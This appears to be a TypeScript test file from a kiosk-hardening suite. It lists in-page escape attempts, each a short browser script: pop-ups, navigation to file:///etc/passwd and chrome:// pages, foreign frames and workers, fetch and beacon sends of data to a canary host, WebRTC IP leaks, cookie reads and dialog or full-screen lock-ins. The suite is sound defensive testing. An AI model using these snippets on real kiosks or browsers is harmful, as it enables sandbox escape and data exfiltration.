/** Attempts that are a script in the window: what a stranger could do who made the page run his own. */
import type { Attempt } from '../attempt.ts';

type Row = readonly [
  name: string,
  script: string,
  more?: Partial<Pick<Attempt, 'seen' | 'shells' | 'settleMs'>>,
];

function inPage(group: Attempt['group'], rows: readonly Row[]): readonly Attempt[] {
  return rows.map(([name, script, more]) => ({
    group,
    name,
    ...more,
    run: (stand) => stand.kiosk().page.run(script),
  }));
}

/** A press on a link or a form that was just put there. */
const CLICKED = (markup: string): string => `
  const box = document.createElement('div'); box.innerHTML = ${markup}; document.body.append(box);
  await wait(30); box.querySelector('a, button, input, area').click(); await wait(200); box.remove();`;

export const WINDOWS = inPage('windows', [
  ['window.open on another origin', "window.open(CANARY + '/open', '_blank', 'popup')"],
  [
    'window.open on an empty page',
    "const one = window.open('about:blank'); return one ? 'a window handle was given' : ''",
  ],
  ['window.open on the kiosk itself', "window.open(location.href, '_blank', 'width=300,height=300')"],
  ['window.open with the opener cut', "window.open(CANARY + '/noopener', '_blank', 'noopener,noreferrer')"],
  ['window.open over the kiosk', "window.open(CANARY + '/self', '_self')"],
  ['window.open over the top', "window.open(CANARY + '/top', '_top')"],
  ['a link with target=_blank', CLICKED("'<a target=_blank href=' + CANARY + '/blank>x</a>'")],
  [
    'a link pressed with Ctrl',
    `const a = document.createElement('a'); a.href = CANARY + '/ctrl'; document.body.append(a);
    a.dispatchEvent(new MouseEvent('click', { ctrlKey: true, bubbles: true, cancelable: true })); await wait(150); a.remove()`,
  ],
  [
    'a link with the middle button',
    `const a = document.createElement('a'); a.href = CANARY + '/middle'; document.body.append(a);
    a.dispatchEvent(new MouseEvent('click', { button: 1, bubbles: true, cancelable: true })); a.click(); await wait(150); a.remove()`,
  ],
  [
    'a form with target=_blank',
    CLICKED("'<form target=_blank action=' + CANARY + '/form-blank><button>x</button></form>'"),
  ],
  [
    'a picture-in-picture window',
    "await documentPictureInPicture.requestWindow({ width: 300, height: 300 }); return 'a window was given'",
  ],
  [
    'a presentation on a second screen',
    "const r = new PresentationRequest([CANARY + '/present']); await r.start(); return 'started'",
  ],
]);

export const NAVIGATION = inPage('navigation', [
  ['location to another origin', "location.href = CANARY + '/location'; await wait(400)"],
  ['location.replace to another origin', "location.replace(CANARY + '/replace'); await wait(400)"],
  ['a link to another origin', CLICKED("'<a href=' + CANARY + '/link>x</a>'")],
  ['a link with ping and download', CLICKED("'<a ping=' + CANARY + '/ping href=/ >x</a>'")],
  ['location to a file', "location.href = 'file:///etc/passwd'; await wait(400)"],
  ['location to a page of the browser', "location.href = 'chrome://settings'; await wait(300)"],
  ['location to the source view', "location.href = 'view-source:' + location.href; await wait(300)"],
  ['location to DevTools', "location.href = 'devtools://devtools/bundled/inspector.html'; await wait(300)"],
  ['location to a data: page', "location.href = 'data:text/html,<h1>out</h1>'; await wait(300)"],
  [
    'location to a blob: page',
    "location.href = URL.createObjectURL(new Blob(['<h1>out</h1>'], { type: 'text/html' })); await wait(300)",
  ],
  [
    'location to javascript:',
    "window.ran = 0; location.href = 'javascript:void(window.ran = 1)'; await wait(200); return window.ran ? 'the script ran' : ''",
  ],
  [
    'a link to javascript:',
    `window.ran = 0; ${CLICKED('\'<a href="javascript:void(window.ran = 1)">x</a>\'')} return window.ran ? 'the script ran' : ''`,
  ],
  ['location to an empty page', "location.href = 'about:blank'; await wait(300)"],
  [
    'meta refresh to another origin',
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + CANARY + '/refresh';
    document.head.append(m); await wait(500); m.remove()`,
  ],
  [
    'a form posted elsewhere',
    CLICKED("'<form method=post action=' + CANARY + '/post><button>x</button></form>'"),
  ],
  [
    'form.submit elsewhere',
    "const f = document.createElement('form'); f.action = CANARY + '/submit'; document.body.append(f); f.submit(); await wait(300); f.remove()",
  ],
  ['the navigation API', "await navigation.navigate(CANARY + '/navigate').committed"],
  [
    'history back and forward',
    'history.back(); await wait(150); history.go(-5); await wait(150); history.forward(); await wait(200)',
  ],
  [
    'a base element elsewhere',
    `const b = document.createElement('base'); b.href = CANARY + '/base/'; document.head.append(b);
    await fetch('based').catch(() => 0); const a = document.createElement('a'); a.href = 'linked'; document.body.append(a); a.click(); await wait(300); b.remove(); a.remove()`,
  ],
  [
    'document.write of another page',
    "document.open(); document.write('<script>fetch(\"' + CANARY + '/written\")</script><meta http-equiv=refresh content=\"0;url=' + CANARY + '/written-refresh\">'); document.close(); await wait(500); location.replace('/'); ",
  ],
  ['mailto:', "location.href = 'mailto:a@example.test'; await wait(400)"],
  ['tel:', CLICKED("'<a href=tel:+123>x</a>'")],
  ['ms-settings:', "location.href = 'ms-settings:'; await wait(300)"],
  ['an unknown program by its scheme', "location.href = 'smartpresence-stranger://x'; await wait(300)"],
  [
    'an intent to be the handler of a scheme',
    "navigator.registerProtocolHandler('web+kiosk', ORIGIN + '/?%s'); await wait(300)",
  ],
]);

export const FRAMES = inPage('frames', [
  ['a frame of another origin', FRAMED('f.src = CANARY + "/frame"')],
  [
    'a frame of a file',
    `${FRAMED("f.src = 'file:///etc/passwd'")} return f.contentDocument?.body?.innerText?.includes('root:') ? 'the file was read' : ''`,
  ],
  [
    'a frame from a text, with a script',
    `window.ran = 0; ${FRAMED('f.srcdoc = "<script>parent.ran = 1</script>"')} return window.ran ? 'the script ran' : ''`,
  ],
  [
    'a frame of a blob',
    `window.ran = 0; ${FRAMED("f.src = URL.createObjectURL(new Blob(['<script>parent.ran = 1</script>'], { type: 'text/html' }))")} return window.ran ? 'the script ran' : ''`,
  ],
  [
    'a frame of data',
    FRAMED("f.src = 'data:text/html,<script>fetch(\"' + CANARY + '/data-frame\")</script>'"),
  ],
  [
    'a frame of the kiosk itself',
    `${FRAMED("f.src = '/'")} return f.contentDocument?.querySelector('[data-screen]') ? 'the kiosk shows in a frame' : ''`,
  ],
  [
    'an object of another origin',
    "const o = document.createElement('object'); o.data = CANARY + '/object'; document.body.append(o); await wait(300); o.remove()",
  ],
  [
    'an embed of another origin',
    "const o = document.createElement('embed'); o.src = CANARY + '/embed'; document.body.append(o); await wait(300); o.remove()",
  ],
  [
    'a portal or fenced frame',
    "const o = document.createElement('fencedframe'); o.config = window.FencedFrameConfig ? new FencedFrameConfig(CANARY + '/fenced') : null; document.body.append(o); await wait(300); o.remove()",
  ],
  [
    'a webview',
    "const o = document.createElement('webview'); o.setAttribute('src', CANARY + '/webview'); document.body.append(o); await wait(300); o.remove()",
  ],
  [
    'the policy of an empty frame',
    `${FRAMED("f.src = 'about:blank'")} await f.contentWindow?.fetch(CANARY + '/empty-frame').catch(() => 0); f.contentWindow?.open?.(CANARY + '/empty-frame-open')`,
  ],
]);

function FRAMED(how: string): string {
  return `const f = document.createElement('iframe'); ${how}; document.body.append(f); await wait(300); setTimeout(() => f.remove(), 50);`;
}

export const SCRIPTS = inPage('scripts', [
  ['eval', 'return eval(\'"eval ran"\')'],
  ['new Function', 'return new Function(\'return "a made function ran"\')()'],
  [
    'a text as a timer',
    "window.ran = 0; setTimeout('window.ran = 1', 0); await wait(50); return window.ran ? 'the text ran' : ''",
  ],
  [
    'an inline script',
    "window.ran = 0; const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s); return window.ran ? 'the script ran' : ''",
  ],
  [
    'an inline handler',
    "window.ran = 0; const b = document.createElement('b'); b.setAttribute('onclick', 'window.ran = 1'); document.body.append(b); b.click(); b.remove(); return window.ran ? 'the handler ran' : ''",
  ],
  [
    'a script of another origin',
    "const s = document.createElement('script'); s.src = CANARY + '/script.js'; document.head.append(s); await wait(300); s.remove()",
  ],
  [
    'a script from a blob',
    "window.ran = 0; const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.ran = 1'])); document.head.append(s); await wait(200); return window.ran ? 'the script ran' : ''",
  ],
  [
    'a script from data',
    "window.ran = 0; const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran=1'; document.head.append(s); await wait(200); return window.ran ? 'the script ran' : ''",
  ],
  ['a module of another origin', "await import(CANARY + '/module.js')"],
  [
    'a module from data',
    'return (await import(\'data:text/javascript,export default "the module ran"\')).default',
  ],
  ['a worker of another origin', "new Worker(CANARY + '/worker.js'); await wait(300)"],
  [
    'a worker from a blob',
    "return await new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('the worker ran'); w.onerror = () => done(''); })",
  ],
  [
    'a worker within a worker',
    "new Worker(URL.createObjectURL(new Blob(['new Worker(\"' + CANARY + '/nested.js\"); fetch(\"' + CANARY + '/nested\")']))); await wait(300)",
  ],
  ['a shared worker of another origin', "new SharedWorker(CANARY + '/shared.js'); await wait(300)"],
  [
    'a service worker',
    `const script = document.querySelector('script[src]').src;
    const made = await navigator.serviceWorker.register(script, { type: 'module', scope: '/assets/' }); await wait(300);
    const all = await navigator.serviceWorker.getRegistrations(); await made.unregister(); return all.length ? 'a service worker is registered' : ''`,
    { seen: 'a registration' },
  ],
  [
    'a service worker of another origin',
    "await navigator.serviceWorker.register(CANARY + '/sw.js'); return 'registered'",
  ],
  [
    'a worklet of another origin',
    "await new AudioContext().audioWorklet.addModule(CANARY + '/worklet.js'); return 'added'",
  ],
  [
    'a style of another origin',
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = CANARY + '/style.css'; document.head.append(l); await wait(300); l.remove()",
  ],
  [
    'an inline style',
    "const s = document.createElement('style'); s.textContent = 'body { outline: 7px solid }'; document.head.append(s); const is = getComputedStyle(document.body).outlineWidth; s.remove(); return is === '7px' ? 'the style holds' : ''",
  ],
  [
    'Node or Electron in the page',
    "return ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global'].filter((name) => name in window).join(' ')",
  ],
  ['the cookie of the door', "return /sp-kiosk/.test(document.cookie) ? 'the cookie can be read' : ''"],
]);

export const NETWORK = inPage('network', [
  ['fetch', "await fetch(CANARY + '/fetch?told=all', { mode: 'no-cors' })"],
  [
    'fetch that outlives the page',
    "await fetch(CANARY + '/keepalive', { method: 'POST', keepalive: true, body: 'told' })",
  ],
  [
    'XMLHttpRequest',
    "const x = new XMLHttpRequest(); x.open('POST', CANARY + '/xhr'); x.send('told'); await wait(300)",
  ],
  ['a WebSocket', "new WebSocket(WS + '/socket'); await wait(300)"],
  ['a WebSocket over TLS', "new WebSocket(WS.replace('ws:', 'wss:') + '/socket'); await wait(300)"],
  ['an EventSource', "new EventSource(CANARY + '/events'); await wait(300)"],
  ['sendBeacon', "navigator.sendBeacon(CANARY + '/beacon', 'told'); await wait(300)"],
  ['WebTransport', "await new WebTransport(CANARY.replace('http:', 'https:') + '/transport').ready"],
  ['a picture', "new Image().src = CANARY + '/picture.png?told'; await wait(300)"],
  [
    'a video',
    "const v = document.createElement('video'); v.src = CANARY + '/video.mp4'; v.load(); await wait(300)",
  ],
  ['a font', "await new FontFace('x', 'url(' + CANARY + '/font.woff2)').load()"],
  [
    'a background in a style',
    "document.body.style.backgroundImage = 'url(' + CANARY + '/background.png)'; await wait(300); document.body.style.backgroundImage = ''",
  ],
  [
    'an icon',
    "const l = document.createElement('link'); l.rel = 'icon'; l.href = CANARY + '/icon.png'; document.head.append(l); await wait(400); l.remove()",
  ],
  [
    'a manifest',
    "const l = document.createElement('link'); l.rel = 'manifest'; l.href = CANARY + '/manifest.json'; document.head.append(l); await wait(400); l.remove()",
  ],
  ['prefetch', LINKED('prefetch')],
  ['preload', LINKED('preload')],
  ['modulepreload', LINKED('modulepreload')],
  ['preconnect', LINKED('preconnect'), { settleMs: 700 }],
  ['prerender', LINKED('prerender')],
  [
    'speculation rules',
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [CANARY + '/speculated'] }], prerender: [{ source: 'list', urls: [CANARY + '/prerendered'] }] }); document.head.append(s); await wait(500); s.remove()",
  ],
  ['WebRTC to a stranger by UDP', RTC("'stun:' + CANARY.slice(7)"), { settleMs: 800 }],
  ['WebRTC to a stranger by TCP', RTC("'turn:' + CANARY.slice(7) + '?transport=tcp'"), { settleMs: 800 }],
  [
    'WebRTC tells of the network',
    `const c = new RTCPeerConnection(); const told = []; c.onicecandidate = ({ candidate }) => candidate && told.push(candidate.candidate);
    c.createDataChannel('x'); await c.setLocalDescription(); await wait(700); c.close(); return told.find((one) => /\\d+\\.\\d+\\.\\d+\\.\\d+/.test(one)) ?? ''`,
  ],
  [
    'a socket of the system',
    "return 'TCPSocket' in window || 'UDPSocket' in window ? 'there are sockets' : ''",
  ],
]);

function LINKED(rel: string): string {
  return `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = CANARY + '/${rel}.js'; document.head.append(l); await wait(400); l.remove()`;
}

function RTC(server: string): string {
  return `const c = new RTCPeerConnection({ iceServers: [{ urls: ${server}, username: 'a', credential: 'b' }] }); c.createDataChannel('x');
    await c.setLocalDescription(); await wait(900); c.close()`;
}

export const LOCKS = inPage('locks', [
  ['alert', "alert('stuck')"],
  ['confirm', "return confirm('stuck') ? 'confirmed' : ''"],
  ['prompt', "return prompt('stuck') ?? ''"],
  [
    'a question before leaving',
    "window.onbeforeunload = (event) => { event.preventDefault(); return 'stay' }; location.reload(); await wait(400); window.onbeforeunload = null",
  ],
  ['print', 'window.print(); await wait(500)', { settleMs: 600 }],
  ['document.execCommand print', "document.execCommand('print'); await wait(300)"],
  [
    'full screen taken by a script',
    "await document.body.requestFullscreen(); const took = document.fullscreenElement; await document.exitFullscreen(); return took ? 'full screen was taken' : ''",
  ],
  [
    'the pointer taken',
    "document.body.requestPointerLock(); await wait(300); const took = document.pointerLockElement; document.exitPointerLock(); return took ? 'the pointer was taken' : ''",
  ],
  [
    'the keyboard taken',
    "await navigator.keyboard.lock(['Escape']); await document.documentElement.requestFullscreen(); const took = document.fullscreenElement; await document.exitFullscreen(); return took ? 'the keyboard was taken' : ''",
  ],
  ['window.close', 'window.close(); await wait(600)', { settleMs: 500 }],
  ['window.close after a trick', "window.open('', '_self').close(); await wait(600)", { settleMs: 500 }],
  [
    'the window moved',
    "const before = [screenX, screenY, outerWidth, outerHeight].join(); window.resizeTo(300, 200); window.moveTo(900, 700); await wait(400); return before === [screenX, screenY, outerWidth, outerHeight].join() ? '' : 'the window moved'",
  ],
]);
